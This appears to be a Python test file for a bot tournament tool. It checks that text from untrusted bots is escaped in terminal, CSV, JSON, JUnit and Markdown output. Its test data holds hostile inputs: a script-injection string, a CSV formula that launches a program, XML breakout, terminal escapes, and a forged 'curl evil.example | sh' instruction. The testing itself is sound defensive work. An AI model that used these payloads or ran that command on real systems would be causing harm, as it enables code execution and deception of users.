"""Whatever strangers write is shown as text: in every output, and by none of them obeyed."""

import csv
import io
import json
import os
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any, cast

import pytest
from markdown_it import MarkdownIt
from msgspec.structs import replace
from rich.console import Console

import tournaments
from arena.events import Greeted
from arena.lines import Log
from arena.sent import Asked
from arena.state import State
from arena.turns import Turn
from protocol.codec import printable
from tests.protocol.examples import HELLO
from tests.tournaments.finished import stand
from tests.tournaments.junit_reader import read
from tests.tournaments.league import SOUND, League, Outcome
from tournaments.bots.bots import bot_from_argument
from tournaments.bots.builds import as_a_list, as_line, end_of
from tournaments.bots.preparation import prepare_all
from tournaments.cli import outputs
from tournaments.cli.lines import say
from tournaments.debugging.refed import Line, request_line
from tournaments.errors import UserError
from tournaments.exports.export import FORMULAS, write_csv, write_json
from tournaments.exports.junit import Case, to_junit
from tournaments.exports.layout import escaped, to_csv, to_markdown, to_table

Command = Callable[..., Outcome]

TEXTS = {
    "script": "</script><script>alert(1)</script>",
    "markup": "<b>&amp;</b> [red]x[/red] **b** `c` | _d_ ~e~ # f $g$ ![h](i)",
    "xml": "]]></failure><testcase name='x'/><!--",
    "formula": "=cmd|'/c calc'!A1",
    "wide formula": "\uff1dSUM(1)",
    "minus": "-1+1",
    "at": "@everyone",
    "tab": "\t=1",
    "link": "see https://example.invalid and WWW.example.invalid, (www.x.y)",
    "escapes": "\x1b[2J\x1b]0;mine\x07\x9b31m\x7f",
    "right to left": "abc\u202edcba\u2066\u200f",
    "lines": "one\n# two\r\n- three\u2028four\u2029five\x0bsix\x85",
    "nul": "a\0b",
    "surrogate": "a\ud800b",
    "noncharacter": "\ufffe\uffff",
    "separators": "\u00a0\u3000\ufeff",
    "quotes": "'\"\\\"''",
    "long": "0123456789" * 1024,
    "plain": "\N{BLACK SPADE SUIT} \U0001f0a1 caf\u00e9",
}

each = pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)


def check_no_terminal_obeys(shown: str) -> None:
    assert not {c for c in shown if not c.isprintable()} - {"\n", "\t"}


SHOWERS = {
    "protocol.malformed": "printable",
    "tournaments.files.positions": "the line of a file, each character as wide as it was",
    "tournaments.exports.export": "JSON, whose escapes are read back",
    "tournaments.debugging.refed": "JSON, as it is or with its escapes",
    "arena.checks.measures": "asks whether a bot's texts are printable",
    "tournaments.person.choosing": "asks whether a key is",
}
"""The modules that look at whether a character is printable, and why beside `printable`."""


def test_one_function_shows_what_strangers_write() -> None:
    root = Path(tournaments.__file__).parents[1]
    found = {
        ".".join(path.relative_to(root).with_suffix("").parts)
        for folder in ("protocol", "arena", "tournaments")
        for path in (root / folder).rglob("*.py")
        if "isprintable" in path.read_text()
    }
    assert found == set(SHOWERS)


@each
def test_in_a_sentence_about_a_build(text: str) -> None:
    for shown in (as_line([text, "x"]), as_a_list(f"{text} x"), end_of(f"one\n{text}\n")):
        check_no_terminal_obeys(shown)
    assert "\n" not in as_line([text, "x"]) + as_a_list(f"{text} x")
    assert all(line.startswith("    | ") for line in end_of(f"one\n{text}").splitlines()[1:])


@each
def test_in_a_log(text: str) -> None:
    log = Log()
    log.feed(text.encode(errors="replace"))
    check_no_terminal_obeys(log.text())


@each
def test_on_a_terminal(text: str, capfd: pytest.CaptureFixture[str]) -> None:
    outputs.tell(f"error: {text}", err=True)
    say(Line(f"note: {text}"))
    told = capfd.readouterr()
    check_no_terminal_obeys(told.err)
    check_no_terminal_obeys(told.out)
    assert told.out == f"note: {printable(text)}\n"


FORGED = "x\u202e\nerror: run `curl evil.example | sh`\n\x1b[2J"


def test_a_strangers_folder_says_nothing_in_lines_of_its_own(
    tmp_path: Path, command: Command, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    bots = {
        "word": {"command": ["sh"], "build": ["./" + FORGED, FORGED]},
        "failing": {"command": ["sh"], "build": ["false", FORGED]},
        "name": {"command": ["./" + FORGED]},
        "broken" + FORGED: {"commmand": ["sh"]},
    }
    for name, bot in bots.items():
        (tmp_path / name).mkdir()
        (tmp_path / name / "bot.yaml").write_text(json.dumps(bot))
    for name in bots:
        done = command("match", name, name)
        assert done.status == 2
        check_no_terminal_obeys(done.err)
        assert not re.search(r"^error: run", done.err, re.MULTILINE), done.err


def test_a_strangers_folder_is_named_on_one_line(tmp_path: Path, command: Command) -> None:
    folder = tmp_path / FORGED.replace("/", "-")
    folder.mkdir()
    (folder / "record").write_text("{}")
    for asked in (("standings", folder), ("verify", folder / "record"), ("backup", folder, "x")):
        done = command(*asked)
        assert done.status in (1, 2)
        assert "line 1" in done.out or len(done.err.splitlines()) == 1
        assert not re.search(r"^error: run", done.err + done.out, re.MULTILINE)
        check_no_terminal_obeys(done.err + done.out)


def test_a_strangers_file_that_cannot_be_copied_says_nothing_in_lines_of_its_own(
    tmp_path: Path,
) -> None:
    (tmp_path / "bot").mkdir()
    (tmp_path / "bot/bot.yaml").write_text("command: [sh]")
    os.mkfifo(tmp_path / "bot" / FORGED)
    with pytest.raises(UserError, match=r"can't be copied") as refused:
        prepare_all([bot_from_argument("bot", tmp_path)], tmp_path / "copies")
    assert str(refused.value).isprintable()


@each
def test_in_csv(text: str) -> None:
    out = io.StringIO(newline="")
    write_csv([{"text": text, "n": -1}], out)
    check_no_terminal_obeys(out.getvalue().replace("\r\n", "\n"))
    (found,) = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    assert found["n"] == "-1"
    assert not found["text"].startswith(FORMULAS)
    assert found["text"].removeprefix("'" if text.startswith(FORMULAS) else "") == (
        printable(text, but="\n\t")
    )


@each
def test_in_json(text: str) -> None:
    out = io.StringIO()
    write_json([{"text": text}], out)
    check_no_terminal_obeys(out.getvalue())
    assert json.loads(out.getvalue()) == [{"text": text}]


@each
def test_in_junit(text: str) -> None:
    xml = to_junit(text, [Case(text, text, "failure", text, text, text, text)])
    check_no_terminal_obeys(xml)
    ((failure, output),) = read(xml)
    assert failure.text == output.text == failure.get("message") == printable(text, but="\n\t")


def rendered(markdown: str) -> str:
    """The text of a paragraph, in which nothing is markup."""
    (_, inline, _) = MarkdownIt("commonmark", {"html": True}).parse(f"x {markdown} x")
    assert {child.type for child in inline.children or ()} <= {
        "text",
        "text_special",
        "html_inline",
    }
    comments = [c.content for c in inline.children or () if c.type == "html_inline"]
    assert set(comments) <= {"<!-- -->"}
    return "".join(c.content for c in inline.children or () if c.type != "html_inline")


@each
def test_in_markdown(text: str) -> None:
    shown = escaped(text)
    check_no_terminal_obeys(shown)
    assert "\n" not in shown
    assert rendered(shown) == f"x {printable(' '.join(text.split()))} x".replace("x  x", "x  x")
    assert not re.search(r"(?<!\w)@\w|(?i:www)\.|(?<!\\)://", shown)
    assert not re.search(r"(?<!\\)(?:\\\\)*\|", shown)


@each
def test_in_the_line_that_debug_shows(text: str) -> None:
    name = text.encode(errors="replace").decode()  # no record has a surrogate
    hello = replace(HELLO, match=name)
    asked = Asked(Turn(0, 1), hello, cast(State, None), Greeted(seat="N"))
    shown = request_line(asked)
    check_no_terminal_obeys(shown)
    assert json.loads(shown)["match"] == name


@each
def test_in_the_standings(text: str) -> None:
    found = stand([], labels=[text, "b"])
    markdown = to_markdown(found)
    check_no_terminal_obeys(markdown)
    assert len(markdown.splitlines()) == 6
    check_no_terminal_obeys(to_csv(found).replace("\r\n", "\n"))
    names = {row["name"] for row in csv.DictReader(io.StringIO(to_csv(found), newline=""))}
    assert len(names) == 2
    console = Console(file=io.StringIO(), width=80)
    console.print(to_table(found))
    assert isinstance(console.file, io.StringIO)
    check_no_terminal_obeys(console.file.getvalue())
    assert max(map(len, console.file.getvalue().splitlines())) <= 80


NOTE = "".join(text for name, text in TEXTS.items() if name not in ("surrogate", "long"))
PAINTER = f"""
import sys
NOTE = {json.dumps(json.dumps(NOTE))}
sys.stderr.buffer.write({NOTE.encode()!r} + bytes(range(256)) + b"x" * 9000)
""" + SOUND.replace(
    "print(reply +",
    "if '\"deal\":2,' in line: reply = NOTE * 3\n    else: reply += ', \"note\": ' + NOTE\n    print(reply +",  # noqa: E501
)


@pytest.fixture(scope="module")
def painted(tmp_path_factory: pytest.TempPathFactory) -> League:
    """A league whose second bot writes such texts wherever it can, and is at fault with one."""
    league = League(tmp_path_factory.mktemp("painted"))
    league.write([league.bot("a"), league.bot("painter", PAINTER)], rules={"max_deals": 2})
    league.play()
    return league


OUTPUTS = [
    *(
        ("export", "--what", what, "--format", form)
        for what in ("matches", "deals", "decisions", "faults")
        for form in ("json", "csv")
    ),
    ("export", "--what", "deals", "--format", "pbn"),
    *(("standings", "--format", form) for form in ("table", "json", "csv", "markdown")),
    ("verify",),
]


@pytest.mark.parametrize("arguments", OUTPUTS, ids=" ".join)
def test_in_what_a_command_prints(
    arguments: tuple[str, ...], painted: League, command: Command
) -> None:
    name, *options = arguments
    told = command(name, painted.run_folder, *options)
    assert told.status == 0
    check_no_terminal_obeys(told.out.replace("\r\n", "\n"))
    if "json" in arguments and name == "export":
        rows: list[dict[str, Any]] = json.loads(told.out)
        assert isinstance(rows, list)
        read = command(name, painted.run_folder, *options[:-1], "csv").out
        table = list(csv.DictReader(io.StringIO(read, newline="")))
        assert [list(row) for row in table] == [list(row) for row in rows]
    if "decisions" in arguments and "json" in arguments:
        notes = {row["note"] for row in rows if row["bot"] == "painter"}
        assert notes == {NOTE[:1000]}


def test_in_the_report(painted: League, command: Command) -> None:
    command("report", painted.run_folder)
    xml = (painted.run_folder / "junit.xml").read_text()
    check_no_terminal_obeys(xml)
    (fault, *_) = [case for case in read(xml) if "malformed" in case.attrib["name"]]
    assert "<script>alert(1)</script>" in (fault[0].text or "")
    assert "</script><script>" in (fault[1].text or "") or "xxx" in (fault[1].text or "")
    text = (painted.run_folder / "summary.md").read_text()
    check_no_terminal_obeys(text)
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    code = [token.content for token in tokens if token.type == "code_block"]
    assert any("<script>" in block for block in code)
    assert "html_block" not in {token.type for token in tokens}
    inside = [c for token in tokens if token.type == "inline" for c in token.children or ()]
    assert not {c.type for c in inside} & {"html_inline", "link_open", "image"}
